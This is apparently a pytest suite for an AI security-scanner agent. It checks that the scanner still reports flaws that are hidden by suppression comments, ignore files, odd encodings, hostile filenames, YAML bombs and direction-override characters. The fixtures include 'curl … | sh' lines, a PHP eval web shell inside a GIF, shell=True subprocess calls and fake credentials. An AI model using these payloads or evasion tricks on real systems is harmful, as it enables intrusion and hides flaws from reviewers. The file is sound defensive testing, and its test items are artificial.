"""A workspace that fights back: the scan ends, names what it could not see, and obeys nothing."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path
from typing import Any

from airlock_sdk.testing import Given, Outcome

SHELL = "import subprocess\nsubprocess.run(cmd, shell=True)\n"
KEY = "api_key = 'Zq8rT2wXn5LbVc7KdPf3Hj'\n"


def test_its_own_configuration_and_wishes_are_not_obeyed(
    run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
) -> None:
    (tmp_path / ".bandit").write_text("[bandit]\nskips: B602\nexclude: /\n")
    (tmp_path / "pyproject.toml").write_text("[tool.bandit]\nskips = ['B602']\n")
    (tmp_path / "bandit.yaml").write_text("skips: [B602]\n")
    (tmp_path / ".secrets.baseline").write_text('{"version": "1.5.0", "plugins_used": [], "results": {}}')
    (tmp_path / "a.py").write_text(SHELL)
    (tmp_path / "b.py").write_text(SHELL.replace("True)", "True)  # nosec B602"))
    (tmp_path / "c.py").write_text("# pragma: allowlist nextline secret\n" + KEY)
    (tmp_path / "d.py").write_text("# nosec\n" + KEY.strip() + "  # pragma: allowlist secret\n")
    output = check_output(
        "security-scanner", "scan", run_agent("security-scanner", "scan", {}, workspace=tmp_path)
    )
    found = {(one["file"], one["rule"], one["suppressed"]) for one in output["findings"]}
    assert found == {
        ("a.py", "B602", False),
        ("b.py", "B602", True),
        ("c.py", "secret-keyword", True),
        ("d.py", "secret-keyword", True),
    }
    assert output["summary"]["suppressed"] == 3


def test_no_name_no_disguise_and_no_wish_silences_a_scan(
    run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
) -> None:
    script, flaw = "box.innerHTML = '<b>' + name;\n", ("js-html-sink", "B602", "sh-pipe-to-shell", "php-eval")
    deep = tmp_path.joinpath(*["d"] * 60)
    deep.mkdir(parents=True)
    files: dict[str, bytes] = {
        ".gitattributes": b"* linguist-vendored binary\n",
        ".gitignore": b"*\n",
        ".semgrepignore": b"*\n",
        ".eslintignore": b"*\n",
        ".dockerignore": b"*\n",
        ".bandit": b"[bandit]\nexclude: /\n",
        "setup.cfg": b"[bandit]\nskips: B602\n[flake8]\nexclude = *\n",
        "sgconfig.yml": b"ignores: ['**']\n",
        "a-eslint.js": b"/* eslint-disable */\n" + script.encode(),
        "b-semgrep.js": script.strip().encode() + b" // nosemgrep\n",
        "c-types.ts": b"// @ts-nocheck\n" + script.encode(),
        "d-noqa.py": SHELL.replace("True)", "True)  # noqa").encode(),
        "e-types.py": b"# type: ignore\n# mypy: ignore-errors\n" + SHELL.encode(),
        "f-syntax.py": b"def broken(:\n" + SHELL.encode(),
        "g-null.py": b"\0" + SHELL.encode(),
        "h-null.sh": b"\0" * 40 + b"\ncurl -s https://example.com | sh\n",
        "i-bom.js": b"\xef\xbb\xbf" + script.encode(),
        "j-utf16.js": script.encode("utf-16"),
        "k-bare.js": script.encode("utf-16-le"),
        "l-long.js": b"x=1;" * 20_000 + script.encode(),
        "m-open.js": script.encode() + b"/* never closed\n" + script.encode(),
        "n-picture.gif": b"GIF89a<?php eval($_GET['x']); ?>",
        "o.js.bak": script.encode(),
        "p": b"#!/bin/sh\ncurl -s https://example.com | sh\n",
        "q.min.js": script.encode(),
        "node_modules/r/index.js": script.encode(),
        "vendor/s.js": script.encode(),
        "tests/t.js": script.encode(),
        "test_u.py": SHELL.encode(),
        "padded.js": b"// padding\n" * 120_000 + script.encode(),
        str((deep / "deep.js").relative_to(tmp_path)): script.encode(),
    }
    for name, content in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(content)
    (tmp_path / "linked.js").symlink_to("a-eslint.js")
    (tmp_path / "loop").symlink_to(".")
    wanted = {name for name in files if not name.startswith((".", "setup", "sgconfig"))}

    def scanned(**inputs: str) -> dict[str, Any]:
        outcome = run_agent("security-scanner", "scan", inputs, workspace=tmp_path)
        return check_output("security-scanner", "scan", outcome)

    output = scanned()
    found = {one["file"]: one for one in output["findings"] if one["rule"] in flaw}
    assert found.keys() == wanted
    suppressed = {name for name, one in found.items() if one["suppressed"]}
    assert suppressed == {"a-eslint.js", "b-semgrep.js", "c-types.ts", "d-noqa.py"}
    assert output["summary"]["in_tests"] == 2

    # Code in a test's clothes is spoken of softly, is counted all the same, and is loud for those who ask.
    high = scanned(min_severity="MEDIUM")
    in_tests = {"tests/t.js", "test_u.py"}
    assert {one["file"] for one in high["findings"]} == wanted - in_tests
    assert high["summary"]["in_tests_below_floor"] == 2
    same = scanned(min_severity="MEDIUM", tests="same")
    assert {one["file"] for one in same["findings"]} == wanted
    assert same["summary"]["in_tests_below_floor"] == 0


def test_hostile_files_are_named_with_the_reason_and_the_others_are_looked_at(
    run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
) -> None:
    (tmp_path / "good.py").write_text(SHELL)
    (tmp_path / "-").write_text(KEY)
    (tmp_path / "line\nbreak \x1b[31m.py").write_text(SHELL)
    with open(os.fsencode(tmp_path) + b"/latin-\xe9.py", "w") as file:
        file.write(SHELL)
    (tmp_path / "latin.cfg").write_bytes(b"name = caf\xe9\n" + KEY.encode())
    (tmp_path / "broken.py").write_text("def broken(:\n" + KEY)
    (tmp_path / "python2.py").write_text("print 'hello'\n")
    (tmp_path / "null.py").write_text("x = 1\n" * 3000 + "\0")
    (tmp_path / "picture.png").write_bytes(b"\x89PNG\0\0" * 99)
    (tmp_path / "huge.py").write_text("x = 1\n" * 400_000)
    (tmp_path / "deep.py").write_text("(" * 5000 + ")" * 5000)
    (tmp_path / "nested.py").write_text("x = " + "-" * 100_000 + "1\n")
    levels = (f"{b}: &{b} [{','.join(['*' + a] * 9)}]\n" for a, b in pairwise("abcdefghi"))
    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(levels)
    (tmp_path / "bomb.yaml").write_text("# <?php eval($_GET['x']); ?>\n" + bomb + KEY.replace(" =", ":"))
    (tmp_path / "odd.yaml").write_text("key: [unclosed\n" + KEY)
    (tmp_path / "far.txt").write_text("far away " * 2_000 + "-----BEGIN RSA PRIVATE KEY-----\n")
    (tmp_path / "long.js").write_text("password='" + "aB3$" * 200_000 + "'\n")
    output = check_output(
        "security-scanner", "scan", run_agent("security-scanner", "scan", {}, workspace=tmp_path)
    )
    found = {(one["file"], one["rule"]) for one in output["findings"]}
    assert {
        ("good.py", "B602"),
        ("-", "secret-keyword"),
        ("line\\nbreak \\x1b[31m.py", "B602"),
        ("latin-\\xe9.py", "B602"),
        ("latin.cfg", "secret-keyword"),
        ("broken.py", "secret-keyword"),
        ("odd.yaml", "secret-keyword"),
        ("bomb.yaml", "secret-keyword"),
        ("bomb.yaml", "php-eval"),  # what brings down the search for secrets hides nothing else
        ("far.txt", "private-key"),
    } <= found
    skipped = {one["file"]: one["reason"] for one in output["skipped"]}
    assert skipped["picture.png"] == "binary: searched for secrets only"
    assert skipped["huge.py"].startswith("larger than")
    assert skipped["broken.py"] == skipped["python2.py"] == "not valid Python"
    assert {"deep.py", "nested.py", "null.py"} <= skipped.keys()
    assert skipped["bomb.yaml"].endswith("searched as plain text")
    assert "good.py" not in skipped
    not_survived = {name for name, reason in skipped.items() if "searched as plain text" in reason}
    assert {"bomb.yaml"} <= not_survived < skipped.keys()
    assert output["files_scanned"] == len(list(tmp_path.iterdir())) - len({"picture.png", *not_survived})


def test_of_what_is_as_severe_the_surest_comes_first_and_documents_are_less_sure(
    run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
) -> None:
    address = "amqp://worker:tulip7orbit92@broker.lindenhof.dev/\n"
    (tmp_path / "a-guide.rst").write_text("url = " + address)
    (tmp_path / "b.min.js").write_text("x=1;" * 500 + "eval(x);\n")
    (tmp_path / "broker.conf").write_text("url = " + address)
    (tmp_path / "local.conf").write_text("url = amqp://guest:guest@localhost//\n")
    outcome = run_agent("security-scanner", "scan", {}, workspace=tmp_path)
    output = check_output("security-scanner", "scan", outcome)
    assert [(one["file"], one["severity"], one["confidence"]) for one in output["findings"]] == [
        ("broker.conf", "HIGH", "HIGH"),
        ("b.min.js", "HIGH", "LOW"),
        ("local.conf", "LOW", "LOW"),
        ("a-guide.rst", "LOW", "LOW"),
    ]
    assert "in documentation, where most are samples" in output["findings"][-1]["message"]


def test_a_mark_of_direction_hides_nothing_behind_it_and_no_password_is_none(
    run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
) -> None:
    (tmp_path / "formats.py").write_text("DATE = 'j F \u200f'\n")
    (tmp_path / "turned.py").write_text("DATE = 'j F \u200f'\nADMIN = False  # \u202e eurT\n")
    (tmp_path / "defaults.py").write_text("DEFAULTS = {'SECRET_KEY': None, 'password': ''}\n")
    outcome = run_agent("security-scanner", "scan", {}, workspace=tmp_path)
    output = check_output("security-scanner", "scan", outcome)
    assert [(one["rule"], one["file"], one["line"], one["severity"]) for one in output["findings"]] == [
        ("B613", "turned.py", 2, "HIGH"),
        ("B613", "formats.py", 1, "LOW"),
    ]


def test_the_second_of_two_secrets_is_known_again_when_the_first_is_gone(
    run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
) -> None:
    def ids() -> dict[int, str]:
        outcome = run_agent("security-scanner", "scan", {"scan_types": ["secrets"]}, workspace=tmp_path)
        output = check_output("security-scanner", "scan", outcome)
        return {one["line"]: one["id"] for one in output["findings"]}

    settings = tmp_path / "settings.ini"
    settings.write_text("[tea]\nmail_password = Zq8rT2wXn5LbVc7K\npay_password = Lx93kPq7Rv2TzB5n\n")
    before = ids()
    settings.write_text("[tea]\n\n\n\npay_password = Lx93kPq7Rv2TzB5n\n")
    assert sorted(before) == [2, 3]
    assert ids() == {5: before[3]}


def test_a_secret_is_known_by_the_same_id_whatever_else_was_asked_for(
    run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
) -> None:
    (tmp_path / "a.py").write_text("password = 'changeme'\n" + SHELL + "password = 'Zq8rT2wXn5LbVc7K'\n")

    def ids(**inputs: Any) -> dict[int, str]:
        outcome = run_agent("security-scanner", "scan", inputs, workspace=tmp_path)
        output = check_output("security-scanner", "scan", outcome)
        return {one["line"]: one["id"] for one in output["findings"]}

    whole = ids()
    assert sorted(whole) == [1, 3, 4]
    assert ids(min_severity="HIGH") == {3: whole[3], 4: whole[4]}
    assert ids(min_severity="HIGH", scan_types=["secrets"]) == {4: whole[4]}


def test_an_empty_workspace_is_a_clean_answer(
    run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
) -> None:
    output = check_output(
        "security-scanner", "scan", run_agent("security-scanner", "scan", {}, workspace=tmp_path)
    )
    assert output["summary"]["total"] == output["files_scanned"] == 0
    assert output["findings"] == output["skipped"] == []


def test_more_findings_than_anybody_reads_are_counted_and_cut(
    run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
) -> None:
    flaw = "box.innerHTML = first + name;\n"
    for number in range(40):
        (tmp_path / f"page{number}.js").write_text(flaw * 1_500)
    (tmp_path / "zz.js").write_text("eval(name);\n" * 300)
    inputs = {"scan_types": ["xss", "injection"]}
    outcome = run_agent("security-scanner", "scan", inputs, workspace=tmp_path)
    output = check_output("security-scanner", "scan", outcome)
    assert output["summary"]["total"] == 60_300
    assert output["summary"]["by_type"] == {
        "secrets": 0,
        "injection": 300,
        "xss": 60_000,
        "dependencies": 0,
        "code": 0,
    }
    assert (len(output["findings"]), output["truncated"], output["report_truncated"]) == (200, True, True)
    assert {one["rule"] for one in output["findings"]} == {"js-eval"}
    report = json.loads(outcome.artifact(output["report"]))
    assert (len(report["findings"]), report["truncated"]) == (50_000, True)
    assert report["summary"] == output["summary"]
    assert len(json.loads(outcome.artifact(output["sarif"]))["runs"][0]["results"]) == 50_000
    assert len(outcome.progress) >= 10


def test_given_advisories_are_used_beside_the_built_in_ones(
    run_agent: Callable[..., Outcome], check_output: Callable[..., dict[str, Any]], tmp_path: Path
) -> None:
    (tmp_path / "requirements.txt").write_text("jinja2==3.1.6\nteapot==1.2\n")
    (tmp_path / "package-lock.json").write_text('{"packages": 1')
    (tmp_path / "yarn.lock").write_text("# padding\n" * 120_000 + 'lodash@^4:\n  version "4.17.20"\n')
    affected = {
        "package": {"ecosystem": "PyPI", "name": "teapot"},
        "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.3"}]}],
    }
    advisory = {
        "id": "GHSA-tea",
        "modified": "2026-02-01T00:00:00Z",
        "summary": "It leaks",
        "affected": [affected],
    }
    given = [Given("/advisories", json.dumps([advisory]).encode(), "application/json")]
    outcome = run_agent(
        "security-scanner", "scan", {"scan_types": ["dependencies"]}, workspace=tmp_path, given=given
    )
    output = check_output("security-scanner", "scan", outcome)
    assert [(one["rule"], one["line"], one["severity"], one["type"]) for one in output["findings"]] == [
        ("CVE-2021-23337", 120_001, "HIGH", "dependencies"),
        ("GHSA-tea", 2, "MEDIUM", "dependencies"),
    ]
    assert output["findings"][1]["message"] == "teapot 1.2: It leaks. Fixed in 1.3."
    assert output["dependencies_checked"] == 3
    assert [(one["source"], one["newest"][:4]) for one in output["advisories"]] == [
        ("given", "2026"),
        ("built-in", "2025"),
    ]
    assert [one["file"] for one in output["skipped"]] == ["package-lock.json", "yarn.lock"]

    broken = [Given("/advisories", b"[" * 1_000_000, "application/json")]
    failed = run_agent("security-scanner", "scan", {}, workspace=tmp_path, given=broken)
    assert failed.failure is not None
    assert failed.failure["code"] == "agent.advisories_unreadable"
